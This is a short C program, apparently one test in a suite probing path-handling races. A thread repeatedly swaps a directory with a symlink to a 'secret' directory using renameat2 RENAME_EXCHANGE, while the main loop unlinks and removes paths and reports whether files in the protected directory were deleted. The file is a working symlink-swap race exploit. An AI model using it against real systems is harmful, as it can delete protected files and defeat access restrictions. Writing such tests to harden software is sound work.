// As swap, with a real directory in place of the first link: RENAME_EXCHANGE puts
// a link to the forbidden directory in its place.
#include "attack.h"

static void *flip(void *unused)
{
	(void)unused;
	while (!over)
		syscall(SYS_renameat2, AT_FDCWD, "work/d", AT_FDCWD, "work/link", 2 /* RENAME_EXCHANGE */);
	return NULL;
}

int main(int argc, char **argv)
{
	long n = tries(argc, argv);
	honest();
	must(mkdir("work", 0755));
	must(mkdir("work/d", 0755));
	must(mkdir("work/d/e", 0755));
	must(symlink("../secret", "work/link"));
	start(flip, NULL);
	for (long i = 0; i < n; i++) {
		unlinkat(AT_FDCWD, "work/d/victim", 0);
		rmdir("work/d/e");
		mkdir("work/d/e", 0755);
		if (access("secret/victim", F_OK) != 0)
			won("unlink %ld", i);
		if (access("secret/e", F_OK) != 0)
			won("rmdir %ld", i);
	}
	lost("0 of %ld", n);
}
